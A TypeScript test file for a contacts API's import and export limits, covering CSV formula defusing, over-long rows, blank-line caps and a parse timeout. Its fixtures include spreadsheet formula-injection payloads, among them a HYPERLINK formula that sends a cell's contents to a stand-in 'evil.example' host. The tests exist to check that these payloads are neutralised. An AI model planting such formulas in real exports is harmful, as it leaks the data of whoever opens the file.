/**
 * Export and import at their limits (issue 21), through the API: CSV cells a spreadsheet would run
 * are defused and read back exactly, an over-long line is its entry's error, too many blank lines
 * are 413, and a large body is read off the event loop within IMPORT_PARSE_TIMEOUT_MS.
 */
import t from 'tap';
import { as, buildContactsApp, type Caller, createContacts, createUser } from './fixtures.js';

const crlf = (...lines: string[]) => lines.map((line) => `${line}\r\n`).join('');
const header = 'first_name,last_name,email,phone,birthday\r\n';
const row = (i: number) => `A,B,a${i}@example.com,+14155550100,1990-01-01\r\n`;
const janeRow = { first_name: 'Jane', last_name: 'Doe', email: 'jane@example.com', phone: '+14155550123', birthday: '1990-05-17' };

const app = await buildContactsApp(t);

const importing = (call: Caller, type: string, body: string) => call('POST', '/api/contacts/import', body, { 'content-type': type });

/** Every contact of the caller, in id order, without the fields an import sets anew. */
async function stored(call: Caller) {
  const res = await call('GET', '/api/contacts/?limit=1000');
  return res.json<Record<string, unknown>[]>().map(({ id: _id, created_at: _c, updated_at: _u, ...fields }) => fields);
}

t.test('export CSV: cells a spreadsheet would run as formulas start with a quote, and import reads them back exactly', async (t) => {
  const alice = as(app, await createUser(app));
  const bob = as(app, await createUser(app));
  await createContacts(alice, [
    { ...janeRow, first_name: '=HYPERLINK("http://evil.example?"&A1)', last_name: '+SUM(1,2)', email: '-2+3@example.com' },
    { ...janeRow, first_name: '@SUM(A1)', last_name: "'=already quoted", email: '=cmd@example.com' },
    { ...janeRow, first_name: "'Tis", last_name: "''", email: 'plain@example.com' },
  ]);
  const first = await alice('GET', '/api/contacts/export?format=csv');
  t.equal(
    first.body,
    crlf(
      'first_name,last_name,email,phone,birthday,additional_data',
      `"'=HYPERLINK(""http://evil.example?""&A1)","'+SUM(1,2)",'-2+3@example.com,+14155550123,1990-05-17,`,
      "'@SUM(A1),''=already quoted,'=cmd@example.com,+14155550123,1990-05-17,",
      "'Tis,''',plain@example.com,+14155550123,1990-05-17,",
    ),
  );
  t.same((await importing(bob, 'text/csv', first.body)).json(), { created: 3, errors: [] });
  t.same(await stored(bob), await stored(alice), 'every value as it was');
  t.equal((await bob('GET', '/api/contacts/export?format=csv')).body, first.body, 'and the same file again');
});

t.test('import limits: a line over 262,144 bytes is an error of its entry; more than 100,000 blank lines are 413', async (t) => {
  const alice = as(app, await createUser(app));
  const csv = await importing(
    alice,
    'text/csv',
    `${header}${row(1)}A,B,${'x'.repeat(262_144)}@example.com,+14155550100,1990-01-01\r\n${row(3)}`,
  );
  t.same(csv.json(), { created: 2, errors: [{ entry: 2, detail: 'CSV row is longer than 262144 bytes' }] });
  const card = (note: string) =>
    crlf('BEGIN:VCARD', 'FN:A B', `EMAIL:b${note.length}@example.com`, 'TEL:+14155550100', 'BDAY:1990-01-01', `NOTE:${note}`, 'END:VCARD');
  const vcard = await importing(alice, 'text/vcard', card('short') + card('y'.repeat(262_144)));
  t.same(vcard.json(), { created: 1, errors: [{ entry: 2, detail: 'vCard line 13 is longer than 262144 bytes' }] });

  const blank = await importing(alice, 'text/csv', `${header}${'\r\n'.repeat(100_001)}${row(4)}`);
  t.equal(blank.statusCode, 413);
  t.same(blank.json(), { detail: 'Too many blank lines in one import (max 100000)' });
  const outside = await importing(alice, 'text/vcard', `${'\n'.repeat(100_001)}${card('z')}`);
  t.equal(outside.statusCode, 413);
  t.same(outside.json(), { detail: 'Too many blank lines or lines outside cards in one import (max 100000)' });
  t.equal((await stored(alice)).length, 3, 'nothing more created');
});

t.test(
  'import: a body over 8 KiB is read in the worker pool within IMPORT_PARSE_TIMEOUT_MS; past it 503, never a hung request',
  async (t) => {
    const hurried = await buildContactsApp(t, { env: { IMPORT_PARSE_TIMEOUT_MS: '1' } });
    const alice = as(hurried, await createUser(hurried));
    const rows = (count: number) => header + Array.from({ length: count }, (_, i) => row(i)).join('');
    t.ok(Buffer.byteLength(rows(150)) <= 8192 && Buffer.byteLength(rows(200)) > 8192, '150 rows are read in place, 200 in the pool');
    t.same((await importing(alice, 'text/csv', rows(150))).json(), { created: 150, errors: [] });
    const late = await importing(alice, 'text/csv', rows(200));
    t.equal(late.statusCode, 503);
    t.equal(late.headers['retry-after'], '1');
    t.same(late.json(), { detail: 'Reading the import took longer than 1 s; try again later or send it in smaller files' });
    t.equal((await stored(alice)).length, 150, 'nothing of it created');
  },
);
